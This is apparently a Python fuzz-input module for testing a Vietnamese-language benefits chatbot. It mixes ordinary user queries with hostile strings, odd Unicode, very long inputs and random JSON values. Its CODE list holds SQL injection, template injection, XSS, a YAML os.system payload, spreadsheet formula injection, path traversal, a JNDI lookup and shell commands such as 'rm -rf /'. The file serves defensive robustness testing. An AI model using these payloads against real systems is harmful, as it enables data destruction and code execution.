"""What people, programs and attackers may put where words are expected. Random, but the same for the same seed.

Every kind stands in a list of its own, so that a kind somebody thinks of is one line.
"""

from __future__ import annotations

import random

HONEST = (
    "nộp hồ sơ thất nghiệp ở đâu",
    "toi nghi viec duoc bao nhieu tien",
    "học nghề có được hỗ trợ không",
    "còn lãi suất thì sao",
    "đăng ký phiên việc làm",
    "gặp cán bộ",
    "tính thử",
    "1",
    "2",
    "5tr5",
    "15/12",
    "có",
    "không",
    "đồng ý",
    "thôi",
    "dừng",
    "nhận tin",
    "xóa dữ liệu của tôi",
    "hồ sơ của tôi",
    "hòa xá",
    "0912345678",
    "/start",
    "/menu",
    "english",
)
CODE = (
    "'; DROP TABLE people; --",
    "Robert'); DELETE FROM outbox WHERE ('1'='1",
    "%s %(name)s :address {address} ? $1",
    "{{ 7 * 7 }} {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(10**9) %}x{% endfor %} {{ figures.__init__.__globals__ }}",
    "{0.__class__} {} {name!r:>{width}} %d %n",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)> <b>không đóng",
    "</b></a><a href='javascript:alert(1)'>bấm</a>",
    '"><svg/onload=alert(1)>',
    "&lt;b&gt; &#0; &#xD800; &amp;amp; &",
    "**đậm [bấm](javascript:alert(1)) [x](data:text/html,<script>) ![](http://a/b)",
    "[a](http://evil.vn) `code` ```\nkhối\n``` ~~gạch~~ ||ẩn|| # đầu đề",
    "- 1\n  - 2\n    - 3\n1. a\n99999999999. b",
    "*" * 300 + "_" * 300 + "[" * 300,
    "> " * 400 + "sâu",
    "- " * 400 + "sâu",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a, *a]\n---\n? {}",
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "../../../../etc/passwd\0.md",
    "${jndi:ldap://x/y} $(reboot) `reboot` ; rm -rf /",
    '{"update_id": 1, "text": "\\u0000"}',
    "\r\nSet-Cookie: gocua=1\r\n\r\n<html>",
    "2026-11-22T20:01:33+0700 ERROR giả một dòng nhật ký",
    "e:bhtn.muc-huong",
    "f:",
    "NaN",
    "1e999",
    "-1",
    "99999999999999999999999999999999",
    "٣٤٥ १२ ①②",
    "31/02/2026 32/13/0000 29/2/1900",
    "0,00,00.00.0",
)
STRANGE = (
    "",
    " \t\n\u00a0\u3000 ",
    "\0",
    "a\0b",
    "\x01\x02\x1b[31mđỏ\x1b[0m\x7f",
    "\ud800",
    "\udfff\ud83d",
    "đ\ud83dơn",
    "\ufeff\ufffe\uffff\U0010ffff",
    "\u200b\u200c\u200d\u2060" * 50,
    "n\u200bộ\u200dp hồ\u2060 sơ",
    "\u202eđảo ngược\u202c bình thường",
    "\u2066\u2067\u2068" * 100,
    "שלום مرحبا ה\u202eمر",
    "Z̴̢̧̛͚͔" + "\u0336\u0315\u031b\u0489" * 200,
    "a" + "\u0301" * 3000,
    "👨‍👩‍👧‍👦" * 300,
    "🇻🇳" * 500,
    "🤦🏿‍♂️\ufe0f" * 200,
    "\U000e0001\U000e0020" * 100,
    "ﷺ꧅𒐫" * 100,
    "İıſK ﬀ ǆ ß",
    "tiếng việt nfd",
    "1\ufe0f\u20e3 2\ufe0f\u20e3",
    "\u2028\u2029\x85\x0b\x0c",
    "." * 5000,
    "\n" * 5000,
    "?" * 4096,
)
LONG = (
    "a" * 100_000,
    "ư" * 50_000,
    "nghỉ việc " * 10_000,
    "1" * 20_000,
    "thất" * 20_000,
    "a1" * 20_000,
    "( " * 20_000,
    " x" * 20_000,
    "5tr " * 10_000,
    "aw" * 30_000,
)
ALPHABET = (
    "aăâbcdđeêghiklmnoôơpqrstuưvxyàảãáạ 0123456789.,-/?!*_[]()<>&{}'\"\\\n\t\0\u200d\u202e\u0301\ud800👍𒐫:;=+@#%~`|^$"
)
NUMBERS = (0, -1, 1, 2**31, 2**53, 2**63, -(2**63), 10**40, 1.5, -0.0, 1e308, float("nan"), float("inf"), True)


def some_text(r: random.Random) -> str:
    """One hostile or honest text; long ones are rare, because they are slow and not many kinds."""
    kind = r.random()
    if kind < 0.35:
        return r.choice(HONEST)
    if kind < 0.55:
        return r.choice(CODE)
    if kind < 0.70:
        return r.choice(STRANGE)
    if kind < 0.705:
        return r.choice(LONG)
    if kind < 0.85:
        return "".join(r.choices(ALPHABET, k=r.randrange(60)))
    return bent(r, f"{r.choice(HONEST)} {r.choice(CODE + STRANGE)[:200]} {r.choice(HONEST)}")


def bent(r: random.Random, text: str) -> str:
    """A text with a few characters lost, doubled, swapped or replaced."""
    letters = list(text)
    for _ in range(r.randrange(1, 6)):
        at = r.randrange(len(letters) + 1)
        letters[at : at + r.randrange(3)] = r.choices(ALPHABET, k=r.randrange(3))
    return "".join(letters)


def some_value(r: random.Random, depth: int = 3) -> object:
    """Anything JSON can say."""
    kind = r.randrange(8 if depth else 5)
    if kind == 0:
        return None
    if kind in {1, 2}:
        return r.choice(NUMBERS)
    if kind in {3, 4}:
        return some_text(r)
    if kind == 5:
        return [some_value(r, depth - 1) for _ in range(r.randrange(4))]
    return {some_text(r)[:40]: some_value(r, depth - 1) for _ in range(r.randrange(4))}
